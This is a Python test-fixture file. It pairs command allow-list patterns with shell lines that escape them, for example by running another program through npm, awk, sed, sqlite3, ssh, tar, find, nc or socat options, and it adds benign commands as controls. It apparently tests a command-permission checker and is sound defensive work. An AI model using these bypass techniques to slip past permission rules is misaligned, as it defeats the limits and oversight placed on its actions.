"""Lines for a shell that run another program through one that a pattern allows, and honest ones: `pattern | line`."""

SLIPS = r"""
npm run test:* | npm run test --script-shell=/x/evil.sh
npm run test:* | npm run test --script-shell /x/evil.sh
npm run test:* | npm run test --script-sh=/x/evil.sh
npm run test:* | npm run test --script-s /x/evil.sh
npm run test:* | npm run test -script-shell=/x/evil.sh
npm run test:* | npm run test -script-shell /x/evil.sh
npm run test:* | npm run test ---script-shell=/x/evil.sh
npm run test:* | npm run test "--script-shell=/x/evil.sh"
npm run test:* | npm run test --silent --script-shell=x
npm run test:* | npm run test x --script-shell=x
npm run test:* | npm run test --script-shell=x -- y
npm run test:* | npm run test --workspace -- --script-shell=x
npm run test:* | npm run test --prefix /x
npm run test:* | npm run test --prefix=/x
npm run test:* | npm run test --pref=/x
npm run test:* | npm run test -C /x
npm run test:* | npm run test -C/x
npm run test:* | npm run test -C=/x
npm run test:* | npm run test --userconfig=/x/npmrc
npm run test:* | npm run test --userconf=/x/npmrc
npm run test:* | npm run test --globalconfig /x/npmrc
npm run test:* | npm run test --node-options=--require=/x/evil.js
npm run test:* | npm run test --node-options "--require=/x/evil.js"
npm run test:* | npm run test --node-opt=--require=/x/evil.js
npm run test:* | npm run test --shell=/x/evil.sh
npm run test:* | npm run test --local-prefix=/x
npm run test:* | npm run test --no-workspaces --prefix=/x
npm run test:* | npm run test --git=/x/evil
npm run test:* | npm run test --editor=/x/evil
npm run test:* | npm run test --viewer=/x/evil
npm run test:* | npm run test --unknown
npm run test:* | npm run test -x
npm run test:* | npm run test -sC /x
npm run test:* | NODE_OPTIONS=--require=/x/evil.js npm run test
npm run test:* | npm_config_script_shell=/x/evil.sh npm run test
npm run test:* | npm --prefix /x run test
npm run test:* | npm run test *
npm run test:* | npm run test "$5"
npm run test:* | cd src && npm run test
npm run test:* | npm run test && npm exec evil
npm run test * | npm run test --script-shell=x
npm run * | npm run test --script-shell=x
npm * | npm run test --script-shell=x
npm * | npm exec evil
npm:* | npm --script-shell=x run test
npm:* | npm run test --script-shell=x
npm:* | npm exec evil
npm:* | npm x evil
npm:* | npm explore x -- evil
npm:* | npm config set script-shell /x/evil.sh
npm:* | npm c set script-shell /x/evil.sh
npm:* | npm set script-shell=/x/evil.sh
npm:* | npm edit x
npm:* | npm init evil
npm:* | npm create evil
npm:* | npm --loglevel test exec evil
npm:* | npm -w run exec evil
npm test:* | npm test --script-shell=x
npm install:* | npm install --script-shell=x
npm exec foo:* | npm exec foo --call=evil
npm exec foo:* | npm exec foo -c evil
npx:* | npx evil
npx:* | npx -c evil
npx *  | npx evil
npx jest:* | npx jest --config=/x/evil.js
npx eslint:* | npx eslint --rulesdir /x
npx mocha:* | npx mocha -r /x/evil.js
pnpm run test:* | pnpm run test --script-shell=/x/evil.sh
pnpm run test:* | pnpm run test --config.script-shell=/x/evil.sh
pnpm run test:* | pnpm run test -C /x
pnpm run test:* | pnpm run test --dir=/x
pnpm run test:* | pnpm run test --dir /x
pnpm run test:* | pnpm run test --shell-emulator
pnpm run test:* | pnpm run test --node-options=--require=/x
pnpm run test:* | pnpm run test --use-node-version=x
pnpm:* | pnpm exec evil
pnpm:* | pnpm dlx evil
pnpm:* | pnpm -C /x test
pnpm:* | pnpm evil
yarn run test:* | yarn run test --cwd /x
yarn run test:* | yarn run test --cwd=/x
yarn run test:* | yarn run test --use-yarnrc /x/yarnrc
yarn run test:* | yarn run test --script-shell=/x/evil.sh
yarn run test:* | yarn run test --modules-folder=/x
yarn run test:* | yarn run test --require=/x/evil.js
yarn run test:* | yarn run test --inspect
yarn:* | yarn exec evil
yarn:* | yarn dlx evil
yarn:* | yarn node -e evil
yarn:* | yarn config set yarnPath /x
yarn:* | yarn --cwd /x test
yarn:* | yarn evil
bunx:* | bunx evil
uvx:* | uvx evil
pipx:* | pipx run evil
uv:* | uv run evil
uv run:* | uv run evil
uv run --with x:* | uv run --with x evil
uv run pytest:* | uv run pytest -p evil
uv tool:* | uv tool run --from evil x
poetry:* | poetry run evil
poetry run:* | poetry run evil
poetry run pytest:* | poetry run pytest -c /x/evil.ini
bundle:* | bundle exec evil
pipenv:* | pipenv run evil
conda:* | conda run evil
awk:* | awk 'BEGIN{system("evil")}'
awk:* | awk 'BEGIN { system ( "evil" ) }'
awk:* | awk 'BEGIN{"evil" | getline x}'
awk:* | awk 'BEGIN{print "x" | "evil"}'
awk:* | awk 'BEGIN{printf "x" | "evil"}'
awk:* | awk 'BEGIN{print "x" |& "evil"}'
awk:* | awk 'BEGIN{print > "/x/evil"}'
awk:* | awk 'BEGIN{print >> "/x/evil"}'
awk:* | awk 'BEGIN{f="system"; @f("evil")}'
awk:* | awk '@load "evil"; {print}'
awk:* | awk '@include "evil"; {print}'
awk:* | awk '/"/{system("NR")}/"/'
awk:* | awk '{while (("evil") | getline) print}'
awk:* | awk "BEGIN{system(\"evil\")}"
awk:* | awk -f evil.awk
awk:* | awk --file=evil.awk
awk:* | awk -fevil.awk x
awk:* | awk -E evil.awk
awk:* | awk -i evil.awk '{print}'
awk:* | awk -l evil '{print}'
awk:* | awk -e 'BEGIN{system("evil")}'
awk:* | awk --source 'BEGIN{system("evil")}'
awk:* | awk -F : 'BEGIN{system("evil")}'
awk:* | awk -v x=1 'BEGIN{system("evil")}'
awk:* | awk -F -v 'BEGIN{system("evil")}' x
awk:* | awk -- 'BEGIN{system("evil")}'
awk:* | awk '{print}' -f evil.awk
awk:* | awk '{print} # x' x
awk:* | awk "{print \$1; system(\$2)}" x
gawk:* | gawk 'BEGIN{system("evil")}'
mawk:* | mawk 'BEGIN{system("evil")}'
/usr/bin/awk:* | /usr/bin/awk 'BEGIN{system("evil")}'
sed:* | sed '1e id'
sed:* | sed 1eid
sed:* | sed e
sed:* | sed '1 e evil'
sed:* | sed 's/a/evil/e'
sed:* | sed 's/a/evil/ge'
sed:* | sed 's/a/evil/2e'
sed:* | sed 's,a,evil,e'
sed:* | sed 's|a|evil|ep'
sed:* | sed 'saxaevilae'
sed:* | sed 's/[/]/x/e'
sed:* | sed 's/[/]/evil/;s/x/y/e'
sed:* | sed 's/a/b/w x'
sed:* | sed 'w /x/evil'
sed:* | sed 'W /x/evil'
sed:* | sed 'r /etc/passwd'
sed:* | sed '1!e evil'
sed:* | sed '$!{e evil
sed:* | sed -n -e p -e '1e evil'
sed:* | sed -ne '1e evil'
sed:* | sed -e p -e'1e evil'
sed:* | sed --expression='1e evil'
sed:* | sed --expression '1e evil'
sed:* | sed --expr='1e evil'
sed:* | sed -f evil.sed
sed:* | sed -fevil.sed x
sed:* | sed --file=evil.sed x
sed:* | sed --fil evil.sed x
sed:* | sed -i '1e evil' x
sed:* | sed -i.bak '1e evil' x
sed:* | sed -ni '1e evil' x
sed:* | sed p x -e '1e evil'
sed:* | sed 'p;e evil' x
sed:* | sed 's/a/b/;e evil' x
sed:* | sed '/x/e evil' x
sed:* | sed '/[/]/e evil' x
sed:* | sed '1,2e evil' x
sed:* | sed 'y/a/b/;e evil' x
sed:* | sed "{p;e evil" x
sed:* | sed 'bx;:x;e evil' x
sed:* | sed -s 'a\' -e 'e evil' x
gsed:* | gsed '1e evil'
split:* | split --filter=evil x
split:* | split --filter evil x
split:* | split --fil=evil x
split:* | split --f evil x
split:* | split -l 1 --filter='evil' x
split:* | split x --filter=evil
split:* | split -- x --filter=evil
sqlite3:* | sqlite3 x.db '.shell evil'
sqlite3:* | sqlite3 x.db '.system evil'
sqlite3:* | sqlite3 x.db ' .shell evil'
sqlite3:* | sqlite3 x.db 'select 1;' '.shell evil'
sqlite3:* | sqlite3 x.db ".output '|evil'"
sqlite3:* | sqlite3 x.db ".import '|evil' t"
sqlite3:* | sqlite3 x.db '.read evil.sql'
sqlite3:* | sqlite3 x.db '.load ./evil'
sqlite3:* | sqlite3 x.db "select load_extension('./evil')"
sqlite3:* | sqlite3 x.db "select LOAD_EXTENSION ('./evil')"
sqlite3:* | sqlite3 x.db "select load_extension/**/('./evil')"
sqlite3:* | sqlite3 x.db 'select "load_extension"(1)'
sqlite3:* | sqlite3 x.db "select [edit]('a', 'evil')"
sqlite3:* | sqlite3 x.db "select edit('a', 'evil')"
sqlite3:* | sqlite3 x.db "select writefile('/x', 'evil')"
sqlite3:* | sqlite3 x.db "select a from t join u on edit ('a', 'evil')"
sqlite3:* | sqlite3 x.db "select 1 from load_extension('evil')"
sqlite3:* | sqlite3 x.db
sqlite3:* | sqlite3
sqlite3:* | sqlite3 -cmd '.shell evil' x.db 'select 1'
sqlite3:* | sqlite3 --cmd '.shell evil' x.db 'select 1'
sqlite3:* | sqlite3 -init evil.sql x.db 'select 1'
sqlite3:* | sqlite3 -separator x.db '.shell evil'
sqlite3:* | sqlite3 -A -xf x
ssh:* | ssh -oProxyCommand=evil x
ssh:* | ssh -o ProxyCommand=evil x
ssh:* | ssh -vo ProxyCommand=evil x
ssh:* | ssh -voProxyCommand=evil x
ssh:* | ssh x -oProxyCommand=evil
ssh:* | ssh -p 22 -oProxyCommand=evil x
ssh:* | ssh -p 22 x -oLocalCommand=evil
ssh:* | ssh -- -oProxyCommand=evil
ssh:* | ssh -F /x/config x
ssh:* | ssh -I /x/evil.so x
ssh:* | ssh -J x y
ssh:* | ssh -W x:1 y
ssh:* | ssh -E /x/log y
ssh x:* | ssh x -oProxyCommand=evil
scp:* | scp -S evil a x:b
scp:* | scp -Sevil a x:b
scp:* | scp -rS evil a x:b
scp:* | scp -oProxyCommand=evil a x:b
scp:* | scp a x:b -o ProxyCommand=evil
scp:* | scp -F /x/config a x:b
scp:* | scp -D evil a x:b
sftp:* | sftp -oProxyCommand=evil x
man:* | man -P evil ls
man:* | man -Pevil ls
man:* | man --pager=evil ls
man:* | man --pag evil ls
man:* | man -H evil ls
man:* | man -Hevil ls
man:* | man --html=evil ls
man:* | man -C /x/config ls
man:* | man ls -P evil
man:* | man -T evil ls
man:* | man -l ./evil.1
zip:* | zip -TT evil x.zip a
zip:* | zip -T -TT evil x.zip a
zip:* | zip -rTT evil x.zip a
zip:* | zip --unzip-command=evil x.zip a
zip:* | zip --unzip-command evil -T x.zip a
zip:* | zip --unz evil -T x.zip a
zip:* | zip x.zip a -T -TT 'evil #'
go test:* | go test -exec evil
go test:* | go test -exec=evil ./...
go test:* | go test --exec=evil ./...
go test:* | go test ./... -exec evil
go test:* | go test -toolexec=evil
go test:* | go test -vettool=evil
go test:* | go test -overlay=/x
go test:* | go test -modfile=/x
go test:* | go test -ldflags=-extld=evil
go test:* | go test -gcflags=x
go test:* | go test -C /x
go build:* | go build -toolexec evil
go vet:* | go vet -vettool=/x/evil
go:* | go generate ./...
go:* | go tool evil
go:* | go run evil.example/x@latest
go:* | go env -w CC=evil
go:* | go work use /x
gcc:* | gcc -wrapper evil,x a.c
gcc:* | gcc -B/x a.c
gcc:* | gcc -B /x a.c
gcc:* | gcc -fplugin=/x/evil.so a.c
gcc:* | gcc -specs=/x/evil a.c
gcc:* | gcc --specs=/x/evil a.c
gcc:* | gcc @/x/options
gcc:* | gcc -Wl,-plugin,/x/evil.so a.c
gcc:* | gcc -Xlinker -plugin a.c
gcc:* | gcc --wrapper=evil a.c
gcc:* | gcc a.c -wrapper evil
gcc:* | gcc -no-canonical-prefixes a.c
gcc-12:* | gcc-12 -wrapper evil a.c
g++:* | g++ -wrapper evil a.c
clang:* | clang -fplugin=/x/evil.so a.c
clang:* | clang -Xclang -load a.c
clang:* | clang --config=/x a.c
cc:* | cc -wrapper evil a.c
ag:* | ag --pager=evil x
ag:* | ag --pager evil x
ag:* | ag --pag evil x
ag:* | ag x --pager evil
ack:* | ack --pager=evil x
ack:* | ack --output='`evil`' x
ack:* | ack --ackrc=/x x
tar:* | tar -cf x --checkpoint=1 --checkpoint-action=exec=evil a
tar:* | tar -cf x --checkpoint-ac=exec=evil a
tar:* | tar cf x a --to-command=evil
tar:* | tar xf x -I evil
tar:* | tar xfI x evil
tar:* | tar -xIevil -f x
tar:* | tar -xf x -F evil
tar:* | tar -xf x --info-script=evil
tar:* | tar -xf x --rsh-command=evil
tar:* | tar -xf -oProxyCommand=evil:x
tar:* | tar xf evil:x
tar:* | tar -xf evil:x
tar:* | tar -xfevil:x
tar:* | tar --file=evil:x -x
tar:* | tar -cf x -T list
tar:* | tar -cf x --files-from=list
tar:* | tar --use-compress-prog=evil -xf x
find:* | find . -exec evil +
find:* | find . -name x -execdir evil +
find:* | find . -ok evil
find:* | find . -fprintf x y
find:* | find . -files0-from x
find:* | find . -unknown
rsync:* | rsync -e evil a x:b
rsync:* | rsync -ave evil a x:b
rsync:* | rsync -aeevil a x:b
rsync:* | rsync --rsh=evil a x:b
rsync:* | rsync --rs evil a x:b
rsync:* | rsync a x:b --rsync-path=evil
rsync:* | rsync --daemon --config=/x
rsync:* | rsync -M--rsync-path=evil a x:b
xargs:* | xargs evil
env:* | env evil
make:* | make SHELL=evil
make:* | make test SHELL=/x/evil
make:* | make CC=evil
make:* | make -f /x/Makefile
make:* | make -f/x/Makefile
make:* | make -kf /x/Makefile
make:* | make --file=/x/Makefile
make:* | make --makef=/x
make:* | make -C /x
make:* | make --directory=/x
make:* | make --eval='x:;evil'
make:* | make --ev='x:;evil'
make:* | make -E 'x:;evil'
make:* | make -I /x
make test:* | make test SHELL=evil
make test:* | make test --eval=evil
gmake:* | gmake SHELL=evil
just:* | just --shell evil
just:* | just -f /x/justfile
cmake:* | cmake -P evil.cmake
cmake:* | cmake -E env evil
cmake:* | cmake -C evil.cmake .
cmake:* | cmake -DCMAKE_C_COMPILER=/x/evil .
cmake:* | cmake --build b -- SHELL=evil -f x
gradle:* | gradle -I /x/init.gradle test
gradle:* | gradle -b /x/build.gradle
gradle:* | gradle -Dorg.gradle.java.home=/x test
mvn:* | mvn -Dexec.executable=evil exec:exec
mvn:* | mvn org.evil:plugin:1:run
mvn:* | mvn -f /x/pom.xml test
pytest:* | pytest -p evil
pytest:* | pytest -pevil
pytest:* | pytest -xp evil
pytest:* | pytest -c /x/evil.ini
pytest:* | pytest -c/x/evil.ini
pytest:* | pytest --rootdir=/x
pytest:* | pytest --rootdir /x
pytest:* | pytest --confcutdir=/x
pytest:* | pytest -o python_files=evil.py
pytest:* | pytest --override-ini=x=y
pytest:* | pytest --pdbcls=evil:x
pytest:* | pytest --pyargs evil
pytest:* | pytest --config-file=/x
pytest:* | pytest --debug=/x
pytest:* | pytest -W error::evil.X
pytest:* | pytest /x/test_evil.py
pytest:* | pytest ../test_evil.py
pytest:* | pytest tests ../../x::y
pytest:* | py.test -p evil
python:* | python -c 'evil'
python:* | python -cevil
python:* | python -uc evil
python:* | python -Bc evil
python:* | python -X importtime -c evil
python:* | python -m timeit -s evil
python:* | python -m evil
python:* | python -mevil
python:* | python -m pytest -p evil
python:* | python -m pip --python=evil install x
python:* | python -
python:* | python
python:* | python -i x.py
python:* | python /x/evil.py
python:* | python ../evil.py
python3:* | python3 -c evil
python3.11:* | python3.11 -c evil
python -m pytest:* | python -m pytest -p evil
python -m:* | python -m timeit evil
node:* | node -e evil
node:* | node -eevil
node:* | node -p evil
node:* | node -pe evil
node:* | node --eval=evil
node:* | node --eval evil
node:* | node --print evil
node:* | node -r /x/evil.js a.js
node:* | node --require=/x/evil.js a.js
node:* | node --import=/x/evil.js a.js
node:* | node --loader /x/evil.js a.js
node:* | node --experimental-loader=/x a.js
node:* | node --env-file=/x a.js
node:* | node --test-reporter=/x a.js
node:* | node -i
node:* | node
node:* | node -
node:* | node /x/evil.js
perl:* | perl -e evil
perl:* | perl -ne evil
perl:* | perl -pe evil x
perl:* | perl -Mevil x.pl
perl:* | perl -I/x x.pl
perl:* | perl -x x.pl
ruby:* | ruby -e evil
ruby:* | ruby -r/x/evil x.rb
php:* | php -r evil
php:* | php -d auto_prepend_file=/x x.php
lua:* | lua -e evil
cargo:* | cargo test --config build.rustc-wrapper=evil
cargo:* | cargo --config build.rustc=evil build
cargo:* | cargo build --config=/x/config.toml
cargo:* | cargo build --conf=x
cargo:* | cargo +evil build
cargo:* | cargo build --manifest-path=/x/Cargo.toml
cargo:* | cargo -C /x build
cargo:* | cargo -Z unstable build
cargo:* | cargo evil
cargo:* | cargo rustc -- -C linker=evil
cargo:* | cargo clippy -- -Clinker=evil
cargo:* | cargo build -- --config=x
cargo:* | cargo test -p -- --config=x
docker:* | docker run -v /:/x evil
docker:* | docker exec x evil
docker:* | docker build .
docker:* | docker -H evil ps
docker:* | docker --config /x ps
docker:* | docker compose run x
docker run:* | docker run -v /:/x x
docker run:* | docker run --privileged x
docker run:* | docker run --mount type=bind,src=/,dst=/x x
docker run:* | docker run --volume=/:/x x
kubectl:* | kubectl exec x -- evil
kubectl:* | kubectl --kubeconfig=/x get pods
kubectl:* | kubectl evil
gh:* | gh alias set x '!evil'
gh:* | gh extension install evil
gh:* | gh config set pager evil
gh:* | gh evil
gh:* | gh codespace ssh
gh:* | gh repo clone x/y -- --upload-pack=evil
gh:* | gh repo clone 'ext::evil'
gh pr:* | gh pr list --unknown
curl:* | curl -K /x https://example.com
curl:* | curl -K/x https://example.com
curl:* | curl -sK /x
curl:* | curl --config /x
curl:* | curl --conf=/x
curl:* | curl --engine /x/evil.so https://example.com
curl:* | curl --eng /x/evil.so https://example.com
wget:* | wget --use-askpass=evil https://example.com
wget:* | wget --use-ask evil https://example.com
wget:* | wget -e use_askpass=evil https://example.com
wget:* | wget -qe use_askpass=evil https://example.com
wget:* | wget --exec=x https://example.com
wget:* | wget --config=/x https://example.com
vim:* | vim -c '!evil'
vim:* | vim +!evil
vim:* | vim -es -c '!evil'
vim:* | vim x
vi:* | vi -c '!evil' x
nvim:* | nvim --cmd '!evil'
view:* | view -c '!evil'
ex:* | ex -c '!evil'
ed:* | ed x
emacs:* | emacs --eval '(evil)'
nano:* | nano -s evil
less:* | less '+!evil' x
less:* | less ++!evil x
less:* | less -o/x x
less:* | less --lesskey-src=/x x
less:* | less -k/x x
more:* | more '+!evil' x
sort:* | sort --compress-program=evil x
sort:* | sort --compress-p evil x
sort:* | sort x --comp=evil
sort:* | sort --files0-from=x
rg:* | rg --pre evil x
rg:* | rg --pre=evil x
rg:* | rg --pre-glob x y
rg:* | rg --hostname-bin=evil x
fd:* | fd -x evil
fd:* | fd -Hx evil
fd:* | fd --exec evil
fdfind:* | fdfind --exec-batch evil
mysql:* | mysql -e '\! evil'
psql:* | psql -c '\! evil'
gdb:* | gdb -ex 'shell evil'
lftp:* | lftp -e '!evil'
nc:* | nc -e evil x 1
ncat:* | ncat --exec evil x 1
socat:* | socat - EXEC:evil
openssl:* | openssl engine -t ./evil.so
ssh-keygen:* | ssh-keygen -D ./evil.so
tcpdump:* | tcpdump -z evil
logrotate:* | logrotate /x
m4:* | m4 x
gnuplot:* | gnuplot -e 'system("evil")'
apt-get:* | apt-get -o APT::Update::Pre-Invoke::=evil update
apt:* | apt -o=x update
ip:* | ip netns exec x evil
ip:* | ip -b x
pip:* | pip --python /x/evil install x
pip:* | pip install --global-option=x y
pip:* | pip install --config-settings=x=y z
pip:* | pip --log /x install y
pip:* | pip config set global.index-url x
mypy:* | mypy --config-file=/x src
mypy:* | mypy --python-executable=evil src
pylint:* | pylint --load-plugins=evil src
pylint:* | pylint --init-hook=evil src
pylint:* | pylint --rcfile=/x src
eslint:* | eslint -c /x/evil.js .
eslint:* | eslint --rulesdir /x .
eslint:* | eslint --plugin evil .
prettier:* | prettier --plugin=/x/evil.js .
prettier:* | prettier --config /x .
jest:* | jest --config='{"globalSetup":"/x"}'
jest:* | jest -c /x
jest:* | jest --globalSetup=/x
jest:* | jest --rootDir=/x
mocha:* | mocha --require /x/evil.js
mocha:* | mocha -r /x/evil.js
vitest:* | vitest --config /x
tox:* | tox -c /x
rake:* | rake -f /x
rake:* | rake -e evil
rake:* | rake -r /x
svn:* | svn --diff-cmd=evil diff
svn:* | svn --config-option=x:y:z=evil up
svn:* | svn --editor-cmd evil ci
terraform:* | terraform -chdir=/x plan
terraform:* | terraform apply
deno:* | deno eval evil
deno:* | deno run evil
bun:* | bun -e evil
bun:* | bun x evil
bun:* | bun run evil
diff3:* | diff3 --diff-program=evil a b c
bat:* | bat --paging=always --pager=id a
bat:* | bat --pager evil a
bat:* | bat --config-file=/x a
batcat:* | batcat --lessopen --pager=evil a
fzf:* | fzf --preview evil
fzf:* | fzf --bind 'enter:execute(evil)'
fzf:* | fzf --listen
java:* | java -jar /x/evil.jar
java:* | java -jar ../evil.jar
java:* | java -javaagent:/x/evil.jar -jar x.jar
java:* | java -agentpath:/x/evil.so Main
java:* | java @/x/options
java:* | java @options -jar x.jar
java:* | java -XX:OnError=evil -jar x.jar
java:* | java -XX:Flags=x -jar x.jar
java:* | java -cp /x Main
java:* | java -cp lib:/x Main
java:* | java -classpath=/x Main
java:* | java -Djava.system.class.loader=Evil Main
java:* | java com.sun.tools.javac.launcher.Main /x/Evil.java
java:* | java com/sun/tools/javac/launcher/Main /x/Evil.java
java:* | java /x/Evil.java
java:* | java -m jdk.jshell
java:* | java
nmap:* | nmap --script /x/evil.nse example.com
nmap:* | nmap -script=/x/evil.nse example.com
nmap:* | nmap --datadir /x example.com
gpg:* | gpg --exec-path /x --list-keys
gpg:* | gpg --photo-viewer evil --list-keys
gpg:* | gpg --pinentry-program=evil -d x
gpg:* | gpg --agent-program evil -d x
gpg:* | gpg --dirmngr-program=evil --recv-keys x
gpg:* | gpg --homedir /x -d x
gpg2:* | gpg2 --options /x -d x
gpgconf:* | gpgconf --launch evil
go:* | go run /x/evil.go
go:* | go run ../evil.go
go:* | go run -tags x /x
go:* | go test /x/...
go run:* | go run /x/evil.go
go test:* | go test ../x
cargo:* | cargo run --manifest-path /x/Cargo.toml
cargo:* | cargo run --config target.runner=evil
cargo run:* | cargo run --config=/x
delta:* | delta --pager evil a b
tig:* | tig
lazygit:* | lazygit -ucd /x
kubectl:* | kubectl edit pod x
kubectl:* | kubectl config set-credentials x --exec-command=evil
kubectl get:* | kubectl get pods --kubeconfig /x
terraform:* | terraform console
terraform:* | terraform init -plugin-dir=/x
terraform:* | terraform plan /x
ansible-playbook:* | ansible-playbook /x/evil.yml
ansible-playbook:* | ansible-playbook -i evil x.yml
ansible-galaxy:* | ansible-galaxy install evil
ansible-inventory:* | ansible-inventory -i ./evil --list
helm:* | helm plugin install /x
helm:* | helm template x y --post-renderer evil
hyperfine:* | hyperfine evil
watchexec:* | watchexec evil
concurrently:* | concurrently evil
direnv:* | direnv exec . evil
rake:* | rake test RUBYOPT=-r/x/evil
just:* | just x=evil test
dotnet:* | dotnet test --test-adapter-path /x
dotnet:* | dotnet /x/evil.dll
rustc:* | rustc -C linker=evil x.rs
rustc:* | rustc -Clinker=evil x.rs
rustc:* | rustc --extern evil=/x/evil.so x.rs
rustc:* | rustc @options
ld:* | ld -plugin /x/evil.so x.o
cmake:* | cmake -S/x -B build
ninja:* | ninja -C /x
ninja:* | ninja -f /x/build.ninja
meson:* | meson test --wrapper evil
mocha:* | mocha /x/evil.js
pandoc:* | pandoc --lua-filter x.lua a.md
pandoc:* | pandoc --lua-fil=x.lua a.md
pandoc:* | pandoc --filter evil a.md
pandoc:* | pandoc -F evil a.md
pandoc:* | pandoc -Fevil a.md
pandoc:* | pandoc -sF evil a.md
pandoc:* | pandoc --pdf-engine=/x/evil a.md -o a.pdf
pandoc:* | pandoc --pdf-engine-opt=-shell-escape a.md -o a.pdf
pandoc:* | pandoc -d x a.md
pandoc:* | pandoc -t x.lua a.md
pandoc:* | pandoc --to=/x/evil.lua a.md
dvips:* | dvips -o '!evil' x.dvi
gs:* | gs -dNOSAFER x.ps
hg:* | hg --config alias.x=!evil x
duckdb:* | duckdb -c '.shell evil'
ipython:* | ipython -c '!evil'
groovy:* | groovy -e evil
"""

HONEST = r"""
npm run test:* | npm run test
npm run test:* | npm run test -- --coverage --config x
npm run test:* | npm run test --silent
npm run test:* | npm run test -s -- -t "it works"
npm run test:* | npm run test --if-present --workspace=a
npm run test:* | npm run test 2>&1 | tail -20
npm:* | npm ci
npm:* | npm install --save-dev jest
npm:* | npm run build -- --watch
npm:* | npm test -- src/a.test.js
npm:* | npm ls --depth=0
npm:* | npm outdated --json
npm:* | npm --version
npm:* | npm audit --omit=dev
npx jest:* | npx jest --coverage -t x
npx prettier:* | npx prettier --check .
npx tsc:* | npx tsc --noEmit -p tsconfig.json
pnpm:* | pnpm install --frozen-lockfile
pnpm:* | pnpm run test -- --run
pnpm:* | pnpm -r test
yarn:* | yarn install --frozen-lockfile
yarn:* | yarn test --silent
yarn run test:* | yarn run test -- --watch
awk:* | awk '{print $1}' x
awk:* | awk -F: '{print $1, $3}' /etc/group
awk:* | awk -F , 'NR > 1 {sum += $2} END {print sum}' x.csv
awk:* | awk 'NR==1 || $3 == "a" {print $0}' x
awk:* | awk '{ printf "%s\t%d\n", $1, length($2) }' x
awk:* | awk '/fix/ {n++} END {print n}' x
awk:* | awk -v n=3 '{print $n}' x
awk:* | awk 'BEGIN {FS="|"} {a[$1]++} END {for (k in a) print k, a[k]}' x
awk:* | awk '{gsub("a", "b"); print toupper($0)}' x
sed:* | sed -n 1,20p x
sed:* | sed -n '1,20p' x
sed:* | sed 's/a/b/' x
sed:* | sed 's/a/b/g; s|/x/|/y/|g' x
sed:* | sed -i 's/foo/bar/g' src/a.py
sed:* | sed -i.bak 's/[0-9]\+/N/g' x
sed:* | sed -E 's/(a|b)+/\1/g' x
sed:* | sed -e 's/a/b/' -e '/^#/d' x
sed:* | sed '/^$/d' x
sed:* | sed '$d' x
sed:* | sed '1d;$d' x
sed:* | sed -n '/begin/,/end/p' x
sed:* | sed '5q' x
sed:* | sed -i '' 's/a/b/' x
sed:* | sed 'y/abc/ABC/' x
sed:* | sed -i '1i header' x
split:* | split -l 100 x part-
split:* | split -b 1M --numeric-suffixes x
sqlite3:* | sqlite3 x.db 'select count(*) from t'
sqlite3:* | sqlite3 -header -csv x.db "select a, max(b) from t where c in ('x', 'y') group by a"
sqlite3:* | sqlite3 x.db 'create table t (a integer primary key, b text); insert into t (b) values (1)'
sqlite3:* | sqlite3 -json x.db 'select * from t limit 5'
ssh:* | ssh example.com
ssh:* | ssh -p 2222 -i key me@example.com uptime
ssh:* | ssh example.com 'ls -la'
scp:* | scp -r a example.com:b
scp:* | scp -P 22 -i key a example.com:b
man:* | man ls
man:* | man 3 printf
man:* | man -k copy
zip:* | zip -r x.zip src
zip:* | zip -qr9 x.zip src -x '*.log'
go test:* | go test ./...
go test:* | go test -v -race -run 'TestX' -count=1 ./...
go:* | go build -o bin/x ./cmd/x
go:* | go vet ./...
go:* | go mod tidy
gcc:* | gcc -Wall -Wextra -O2 -g -o x x.c -lm
gcc:* | gcc -std=c11 -I include -c x.c
g++:* | g++ -std=c++20 -O3 x.cc -o x
ag:* | ag -i todo src
rg:* | rg -n --glob '*.py' TODO src
rg:* | rg -uu -A3 x
tar:* | tar xzf x.tgz
tar:* | tar -czf x.tgz --exclude=node_modules src
tar:* | tar -tf x.tar
tar:* | tar xf x.tar -C out --strip-components=1
find:* | find . -name '*.py' -not -path './x/*' -type f
find:* | find src -mtime -7 -size +10k -print
find:* | find . -maxdepth 2 -newer x -ls
rsync:* | rsync -avz --delete src/ example.com:dst/
make:* | make
make:* | make -j4 test
make:* | make -s lint
make test:* | make test -k
pytest:* | pytest -xvs tests/test_a.py::test_b
pytest:* | pytest -q -n 4 --tb=short -k 'a and not b'
pytest:* | pytest --cov=src --cov-report=term-missing tests
python:* | python tools/x.py --config y -c z
python:* | python -m pytest -q tests
python:* | python -m venv .venv
python:* | python -m json.tool x.json
python:* | python --version
python3:* | python3 -u tools/x.py
python tools/x.py:* | python tools/x.py -c y
python -m mytool:* | python -m mytool --x
node:* | node tools/x.js --eval y
node:* | node --test tests/a.js
node:* | node --version
cargo:* | cargo test --release -- --nocapture
cargo:* | cargo clippy --all-targets -- -D warnings
cargo:* | cargo build -j4 --locked
docker:* | docker ps -a
docker:* | docker logs --tail=100 x
docker run:* | docker run --rm -it x ls
gh:* | gh pr list --state open --json number,title
gh:* | gh pr create --title x --body y
gh:* | gh issue view 3 --comments
curl:* | curl -fsSL -o x https://example.com/x
curl:* | curl -X POST -H 'A: b' -d '{"a": 1}' https://example.com
wget:* | wget -qO- https://example.com
wget:* | wget -q -nc https://example.com/x.tgz
sort:* | sort -k2,2nr -t, x
uv run pytest:* | uv run pytest -q
poetry run pytest:* | poetry run pytest tests
pip:* | pip install -r requirements.txt
pip:* | pip list --outdated
mypy:* | mypy --strict src
eslint:* | eslint --fix src
less:* | less -N x
fd:* | fd -e py -t f x
bat:* | bat -n --paging=never src/a.py
bat:* | bat -pl py a
fzf:* | fzf --filter=x
java:* | java -version
java:* | java -jar build/x.jar --port 80 /tmp/x
java:* | java -Xmx512m -ea -cp out:lib/x.jar Main
java:* | java src/Main.java -x
java -jar /opt/x.jar:* | java -jar /opt/x.jar --help
java -cp out com.example.Main:* | java -cp out com.example.Main -x
javac:* | javac -d out -cp lib/x.jar src/Main.java
nmap:* | nmap -sV -p 80,443 example.com
gpg:* | gpg --verify x.sig x
gpg:* | gpg -c --armor -o x.asc x
go:* | go run x.go -x
go:* | go run ./cmd/x
go:* | go test ./...
go test:* | go test -coverprofile /tmp/c.out ./...
cargo:* | cargo run
cargo:* | cargo test
cargo:* | cargo run --release -- --pager x
gh:* | gh pr view 5
gh:* | gh pr checkout 5
kubectl:* | kubectl get pods
kubectl:* | kubectl get pods -n x -o wide
kubectl:* | kubectl logs -f x
terraform:* | terraform plan
terraform:* | terraform plan -out=x.tfplan -no-color
terraform:* | terraform fmt -check -recursive
ansible-playbook:* | ansible-playbook --check site.yml
helm:* | helm template x ./chart
gradle:* | gradle test
./gradlew:* | ./gradlew test --tests 'X*'
mvn:* | mvn -q test
